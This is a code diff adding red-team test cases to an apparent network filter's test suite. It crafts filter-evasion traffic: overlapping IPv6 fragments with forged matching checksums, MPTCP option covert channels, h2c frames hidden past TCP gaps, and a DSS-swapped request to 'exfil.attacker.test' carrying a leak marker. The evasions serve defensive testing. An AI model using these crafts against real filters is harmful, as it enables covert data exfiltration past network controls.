+def _rt11_frag6_nh(n, port, how):
+    """Office IPv6 HTTP: one request datagram, fragment A (offset 0, Next Header TCP: the
+    TCP header and a shared head), then two tails: B2 (the m.vk.com Host line, Next
+    Header UDP in its Fragment header) and B1 (the decoy Host line, Next Header TCP). We
+    key a datagram by its Fragment header's Next Header as well (frag_find); Linux keys
+    it by addresses and ID alone (RFC 8200 4.5: the first fragment's Next Header
+    counts), so A and B2 are one datagram there. B2 goes out when a fragment A' (offset
+    0, Next Header UDP) completes it as a UDP datagram to us; A' never reaches the server
+    (how: its hop limit expires on the way, or a destination option that says discard).
+    B1 then completes A for us, read as the decoy; A reaches the server after B2 and
+    completes it with the real tail. Both tails give the TCP sum the same value."""
+    cap = Capture()
+    t = ETcp(cap, O6, port, SOC6, 80, isn=port * 7, rtt_us=20000)
+    t.handshake()
+    head = b"GET /feed HTTP/1.1\r\nUser-Agent: curl/8.5.0\r\nX-Pad: " + b"p" * 2000
+    head = head[:1000 - 20] + b"\r\n"
+    real = head + b"Host: m.vk.com\r\nX-M: " + leak(n) + b"\r\n\r\n"
+    decoy = head + b"Host: ex.a.org\r\nX-M: " + b"d" * len(leak(n)) + b"\r\n\r\n"
+    assert len(real) == len(decoy)
+    seg = bytes(TCP(sport=port, dport=80, flags="PA", seq=t.cseq, ack=t.sseq, window=64240) / Raw(real))
+    # the pseudo header is the same for both: fix the sum for real, then make decoy's
+    # words sum alike (two bytes of its X-M value)
+    pseg = bytes(IPv6(src=O6, dst=SOC6) / TCP(sport=port, dport=80, flags="PA", seq=t.cseq, ack=t.sseq,
+                                             window=64240) / Raw(real))[40:]
+    tcp_real = pseg
+    tcp_decoy = bytearray(pseg[:20] + decoy)
+    want = _rt11_csum16(tcp_real[1000:])
+    k = 20 + len(head) + len(b"Host: ex.a.org\r\nX-M: ")
+    if k % 2:
+        k += 1
+    found = False
+    for v in range(94 * 94):
+        tcp_decoy[k] = 0x21 + (v % 94)
+        tcp_decoy[k + 1] = 0x21 + v // 94
+        tcp_decoy[k + 2] = tcp_decoy[k + 3] = 0
+        rest = _rt11_csum16(bytes(tcp_decoy[1000:]))
+        w2 = (want - rest) % 0xFFFF
+        if 0x21 <= w2 >> 8 <= 0x7E and 0x21 <= (w2 & 0xFF) <= 0x7E:
+            tcp_decoy[k + 2], tcp_decoy[k + 3] = w2 >> 8, w2 & 0xFF
+            found = _rt11_csum16(bytes(tcp_decoy[1000:])) == want
+            if found:
+                break
+    assert found
+    tcp_decoy = bytes(tcp_decoy)
+    assert tcp_decoy[:1000] == tcp_real[:1000]
+    udp = bytes(IPv6(src=O6, dst=SOC6) / UDP(sport=port, dport=80) / Raw(prand(n + "u", 992 - 8 + 8) + tcp_real[1000:]))[40:]
+    udp = bytes(IPv6(src=O6, dst=SOC6) / UDP(sport=port, dport=80) / Raw(udp[8:]))[40:]
+    fid = 0x5151
+    def frag(nh, off, more, data, hlim=64, pre=None):
+        ip = IPv6(src=O6, dst=SOC6, hlim=hlim)
+        if pre is not None:
+            ip = ip / pre
+        cap.emit(l2(O6, SOC6) / ip / IPv6ExtHdrFragment(nh=nh, offset=off // 8, m=int(more), id=fid) / Raw(data), 300)
+    frag(6, 0, True, tcp_real[:1000])
+    frag(17, 1000, False, tcp_real[1000:])
+    if how == "hlim":
+        frag(17, 0, True, udp[:1000], hlim=1)
+    else:
+        frag(17, 0, True, udp[:1000], pre=IPv6ExtHdrDestOpt(options=[HBHOptUnknown(otype=0x80, optdata=b"\x00" * 4)]))
+    frag(6, 1000, False, tcp_decoy[1000:])
+    t.cseq += len(real)
+    t.raw(False, "A")
+    _vk_answer(t, n)
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt11_frag6_nh_hlim_vk(n):
+    """(Red team round 11) _rt11_frag6_nh with A' of hop limit 1. Must drop (social)."""
+    return _rt11_frag6_nh(n, 54119, "hlim")
+
+
+@case
+def case_rt11_frag6_nh_dstopt_vk(n):
+    """(Red team round 11) _rt11_frag6_nh with A' behind a destination option of an
+    unknown type that says discard (RFC 8200 4.2). Must drop (social)."""
+    return _rt11_frag6_nh(n, 54120, "dstopt")
+
+
+@case
+def case_rt11_addad(n):
+    """(Red team round 11) A carrier on an MPTCP connection the e2m server agreed to
+    (rt8b_mptcp_ok's): each of the client's ACKs carries an ADD_ADDR for IPv6 with a port
+    and an HMAC (30 bytes, a length RFC 8684 gives it), its address the marker and its
+    HMAC anything: the server checks the HMAC and ignores the option, everything on the
+    way reads 26 bytes a segment. Also one of length 29, which no subtype has. Must not
+    pass."""
+    cap = Capture()
+    t = ETcp(cap, S1, 54121, E2M, 443, isn=54121, rtt_us=20000)
+    kc, ks = prand(n + "kc", 8), prand(n + "ks", 8)
+    t.raw(True, "S", options=Tcp.SYN_OPTS + [(30, b"\x01\x01")])
+    t.cseq += 1
+    t.raw(False, "SA", options=Tcp.SYN_OPTS + [(30, b"\x01\x01" + ks)])
+    t.sseq += 1
+    t.raw(True, "A", options=[(30, b"\x01\x01" + ks + kc)])
+    dsn = {True: 1, False: 1}
+    assert len(leak(n)) == 16
+    k = [0]
+
+    def seg(from_client, payload):
+        mine = dsn[from_client]
+        dss = b"\x20\x05" + struct.pack("!IIIH", dsn[not from_client] & M32, mine & M32,
+                                         (t.cseq - 54122 if from_client else t.sseq - (54121 * 7 + 4001)) & M32,
+                                         len(payload))
+        t.raw(from_client, "PA", payload, options=[(30, dss)])
+        dsn[from_client] += len(payload)
+        if from_client:
+            t.cseq += len(payload)
+        else:
+            t.sseq += len(payload)
+        if not from_client:
+            k[0] += 1
+            if k[0] % 2:
+                add = b"\x30\x01" + leak(n) + b"\x01\xbb" + prand(n + "h%d" % k[0], 8)
+            else:
+                add = b"\x30\x01" + leak(n) + b"\x01\xbb" + prand(n + "h%d" % k[0], 7)
+            t.raw(True, "A", options=[(30, b"\x20\x01" + struct.pack("!I", dsn[False] & M32)), (30, add)])
+        else:
+            t.raw(False, "A", options=[(30, b"\x20\x01" + struct.pack("!I", dsn[True] & M32))])
+    seg(True, hello(n))
+    seg(False, server_hello_flight(n))
+    seg(True, CCS + tls_appdata(n + "fin", 53))
+    seg(True, tls_appdata(n + "req", 200))
+    seg(False, tls_appdata(n + "resp", 500))
+    seg(False, tls_appdata(n + "resp2", 500))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt11_curl_h2c_ok(n):
+    """(Red team round 11) Must-allow: office, `curl --http2 http://www.example.org/` asks
+    for an upgrade to h2c (Connection: Upgrade, HTTP2-Settings; Upgrade: h2c), which
+    nginx, Apache without mod_http2's h2c, and most servers ignore: they answer in HTTP/1.1
+    and the connection stays HTTP/1.1. Refusing any Upgrade: h2c whatever the zone refuses
+    every curl --http2 on plain http. The server's answer (101 or not) says which
+    protocol follows."""
+    cap = Capture()
+    t = ETcp(cap, O1, 54122, SOC, 80, isn=54122 * 7, rtt_us=20000)
+    t.handshake()
+    t.data(True, b"GET /x HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n"
+           b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
+           b"HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\nX-Mark: " + passm(n) + b"\r\n\r\n")
+    _ok_answer(t, n)
+    t.data(True, b"GET /y HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\n\r\n")
+    _ok_answer(t, n + "2")
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+def _rt11_first_method(n, port, method):
+    cap = Capture()
+    t = ETcp(cap, O1, port, SOC, 80, isn=port * 7, rtt_us=20000)
+    t.handshake()
+    for i in range(6):
+        t.data(True, method + b" /%d HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: curl/8.5.0\r\n\r\n" % i)
+        t.data(False, b"HTTP/1.1 405 Not Allowed\r\nContent-Length: 0\r\n\r\n")
+    t.data(True, _rtk_vk_req(n))
+    _vk_answer(t, n)
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt11_first_longmethod_vk(n):
+    """(Red team round 11) As rt10e_odd_method_vk with a method of 40 letters: nginx takes
+    any run of A-Z, _ and - (ngx_http_parse_request_line has no bound), answers 405 and
+    keeps the connection; our reader takes 3 to 31 (hs_method), so the first payload is no
+    HTTP start (hs_http_starts) and the flow is not read for its life. Six such requests
+    (past the classifier's payload window: the verdict is given), then a GET for
+    m.vk.com. Must drop (social)."""
+    return _rt11_first_method(n, 54123, b"A" * 40)
+
+
+@case
+def case_rt11_first_shortmethod_vk(n):
+    """(Red team round 11) As rt11_first_longmethod_vk with a method of two letters ("GO"):
+    nginx reads it and answers 405 on a kept connection; hs_method wants three at least.
+    Must drop (social)."""
+    return _rt11_first_method(n, 54124, b"GO")
+
+
+def _rt11_h2_two_names(n, port, auth, host):
+    cap = Capture()
+    t = ETcp(cap, O1, port, SOC, 80, isn=port * 7, rtt_us=20000)
+    t.handshake()
+    hb = (b"\x82\x86\x84" + b"\x01" + bytes([len(auth)]) + auth
+          + b"\x00\x04host" + bytes([len(host)]) + host
+          + b"\x00\x06x-mark" + bytes([len(leak(n))]) + leak(n))
+    t.data(True, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"") + h2_frame(1, 5, 1, hb))
+    t.data(False, h2_frame(4, 0, 0, b"") + h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 1, b"\x88")
+           + h2_frame(0, 1, 1, leak(n)))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt11_h2c_host_vk(n):
+    """(Red team round 11) Office h2c: a HEADERS block with :authority www.example.org and
+    a host field m.vk.com (RFC 9113 8.3.1: a server SHOULD refuse them, some take Host).
+    Must drop (social, or refused)."""
+    return _rt11_h2_two_names(n, 54125, b"www.example.org", b"m.vk.com")
+
+
+@case
+def case_rt11_h2c_auth_vk(n):
+    """(Red team round 11) rt11_h2c_host_vk the other way round: :authority m.vk.com, host
+    www.example.org. Must drop (social, or refused)."""
+    return _rt11_h2_two_names(n, 54126, b"m.vk.com", b"www.example.org")
+
+
+@case
+def case_rt11_h2w_v6_lan_ok(n):
+    """(Red team round 11) Must-allow: the h2c share (8 a worker, judge_h2w_open) counts an
+    IPv6 /64 as one address (round 7), but an office's IPv6 LAN is one /64 (the request
+    log's share went by address in round 10 for that: rt10e_v6_share_dos_ok). One office
+    host (2001:db8:20::a1, a gRPC channel pool) keeps 8 h2c connections with prior
+    knowledge open; then its LAN neighbour 2001:db8:20::b2 opens one: refused
+    (classifier_alloc, whatever the zone)."""
+    cap = Capture()
+    for i in range(8):
+        c = ETcp(cap, "2001:db8:20::a1", 54130 + i, SOC6, 80, isn=54130 * 7 + i * 977, rtt_us=200)
+        c.handshake()
+        c.data(True, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"")
+               + h2_frame(1, 5, 1, h2_hb(b"www.example.org", b"d%d" % i)))
+        c.data(False, h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, b"\x88") + h2_frame(0, 1, 1, b"ok"))
+    t = ETcp(cap, "2001:db8:20::b2", 54129, SOC6, 80, isn=54129 * 7, rtt_us=20000)
+    t.handshake()
+    t.data(True, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"")
+           + h2_frame(1, 5, 1, h2_hb(b"www.example.org", b"one")))
+    t.data(False, h2_frame(4, 0, 0, b"") + h2_frame(1, 4, 1, b"\x88") + h2_frame(0, 1, 1, b"ok"))
+    t.data(True, h2_frame(1, 5, 3, h2_hb(b"www.example.org", passm(n))))
+    t.data(False, h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, passm(n)))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_rt11_h2pk_gap_far_vk(n):
+    """(Red team round 11) Office h2c with prior knowledge: the preface, SETTINGS with two
+    parameters, WINDOW_UPDATE and PING (75 bytes, past CLS_JOIN_MAX), then a segment past
+    a gap at 17000 bytes (past the first-bytes slot, which keeps none of it): HEADERS for
+    stream 3, m.vk.com, forwarded unread (judge_tcp_long, TCP_SKIP: the h2c reading lives
+    in the slot until its first HEADERS, judge_http_more sees nothing). Then the gap in
+    order: HEADERS for stream 1 (www.example.org, a POST) and DATA frames of stream 1 up
+    to 17000: read, allowed. The server reads stream 3 right after. Must drop (social)."""
+    cap = Capture()
+    t = ETcp(cap, O1, 54138, SOC, 80, isn=54138 * 7, rtt_us=20000)
+    t.handshake()
+    base = t.cseq
+    first = (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"\x00\x02\x00\x00\x00\x00\x00\x04\x00\x60\x00\x00")
+             + h2_frame(8, 0, 0, b"\x00\x3f\x00\x01") + h2_frame(6, 0, 0, b"pingpong"))
+    assert len(first) > 64
+    t.raw(True, "PA", first, seq=base)
+    t.raw(False, "A", ack=base + len(first))
+    far = 17000
+    hb3 = (b"\x82\x86\x84" + b"\x01" + bytes([8]) + b"m.vk.com"
+           + b"\x00\x06x-mark" + bytes([len(leak(n))]) + leak(n))
+    evil = h2_frame(1, 5, 3, hb3)
+    t.raw(True, "PA", evil, seq=base + far)
+    t.raw(False, "A", ack=base + len(first))
+    hb1 = b"\x83\x86\x84" + b"\x01" + bytes([15]) + b"www.example.org"
+    fill = h2_frame(1, 4, 1, hb1)
+    left = far - len(first) - len(fill)
+    while left > 0:
+        k = min(left - 9, 8000)
+        if left - (k + 9) in range(1, 10):
+            k -= 10
+        fill += h2_frame(0, 1 if left == k + 9 else 0, 1, prand(n + "d%d" % left, k))
+        left -= k + 9
+    assert len(first) + len(fill) == far
+    at = base + len(first)
+    for o in range(0, len(fill), 1448):
+        t.raw(True, "PA", fill[o:o + 1448], seq=at + o, gap=300)
+    # (twenty-first session) the segment past the gap is now dropped, not
+    # forwarded: the client sends it again once the gap is filled, as any
+    # stack does, and it must be read then
+    t.raw(True, "PA", evil, seq=base + far)
+    t.cseq = base + far + len(evil)
+    t.raw(False, "A")
+    t.data(False, h2_frame(4, 0, 0, b"") + h2_frame(4, 1, 0, b"") + h2_frame(1, 4, 1, b"\x88")
+           + h2_frame(0, 1, 1, b"ok") + h2_frame(1, 4, 3, b"\x88") + h2_frame(0, 1, 3, leak(n)))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rt11_mptcp_dss_swap(n):
+    """(Red team round 11) MPTCP agreed by the e2m server (rt8b_mptcp_ok's connection). A
+    DSS mapping places a subflow's bytes anywhere in the data-level stream (RFC 8684 3.3:
+    mappings need not follow the subflow's order). After the handshake the client sends a
+    record header alone, mapped after the body that follows it, then the body (plaintext
+    HTTP), mapped first: we read a record header and its body on the subflow; the
+    server's application reads the plaintext first, then the header. Must not pass."""
+    cap = Capture()
+    t = ETcp(cap, S1, 54139, E2M, 443, isn=54139, rtt_us=20000)
+    kc, ks = prand(n + "kc", 8), prand(n + "ks", 8)
+    t.raw(True, "S", options=Tcp.SYN_OPTS + [(30, b"\x01\x01")])
+    t.cseq += 1
+    t.raw(False, "SA", options=Tcp.SYN_OPTS + [(30, b"\x01\x01" + ks)])
+    t.sseq += 1
+    t.raw(True, "A", options=[(30, b"\x01\x01" + ks + kc)])
+    dsn = {True: 1, False: 1}
+    c0, s0 = t.cseq, t.sseq
+
+    def seg(fc, payload, at=None):
+        mine = dsn[fc] if at is None else at
+        dss = b"\x20\x05" + struct.pack("!IIIH", dsn[not fc] & M32, mine & M32,
+                                         ((t.cseq - c0 + 1) if fc else (t.sseq - s0 + 1)) & M32,
+                                         len(payload))
+        t.raw(fc, "PA", payload, options=[(30, dss)])
+        if at is None:
+            dsn[fc] += len(payload)
+        if fc:
+            t.cseq += len(payload)
+        else:
+            t.sseq += len(payload)
+    def ack(fc):
+        t.raw(fc, "A", options=[(30, b"\x20\x01" + struct.pack("!I", dsn[not fc] & M32))])
+    seg(True, hello(n)); ack(False)
+    seg(False, server_hello_flight(n)); ack(True)
+    seg(True, CCS + tls_appdata(n + "fin", 53)); ack(False)
+    body = (b"GET /x HTTP/1.1\r\nHost: exfil.attacker.test\r\nX-M: " + leak(n) + b"\r\n\r\n")
+    hdr = b"\x17\x03\x03" + struct.pack("!H", len(body))
+    d0 = dsn[True]
+    seg(True, hdr, at=d0 + len(body))
+    seg(True, body, at=d0)
+    dsn[True] = d0 + len(body) + len(hdr)
+    ack(False)
+    seg(False, tls_appdata(n + "resp", 300)); ack(True)
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+def _rt11_ws_frame(payload, key):
+    """A client WebSocket text frame (RFC 6455 5.2), masked."""
+    m = bytes(b ^ key[i % 4] for i, b in enumerate(payload))
+    ln = len(payload)
+    hdr = b"\x81" + (bytes([0x80 | ln]) if ln < 126 else b"\xfe" + struct.pack("!H", ln))
+    return hdr + key + m
+
+
+@case
+def case_rt11_ws_ok(n):
+    """(Red team round 11) Must-allow, the twin of rt11_upgrade_longmethod_vk: office, a
+    WebSocket upgrade for www.example.org answered 101, then masked client frames (one
+    of them, unmasked, a request line and a Host line) and the server's frames carrying
+    the marker. A fix that reads on behind an upgrade must follow the server's 101."""
+    cap, t = ka_flow(n, 54140, reqs=1)
+    t.data(True, b"GET /chat HTTP/1.1\r\nHost: www.example.org\r\nUpgrade: websocket\r\n"
+           b"Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
+           b"Sec-WebSocket-Version: 13\r\n\r\n")
+    t.data(False, b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
+           b"Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n")
+    for i in range(6):
+        msg = b"GET /feed HTTP/1.1\r\nHost: m.vk.com\r\n\r\n" if i == 2 else b'{"seq":%d}' % i
+        t.data(True, _rt11_ws_frame(msg, prand(n + "k%d" % i, 4)))
+        t.data(False, b"\x81" + bytes([len(passm(n)) + 2]) + passm(n) + b"%02d" % i)
+    t.close()
+    return cap, {"pass": [passm(n)]}
 
 
 def rt25_hello_exts(seed, exts, sid=None, ciphers=CIPHERS):
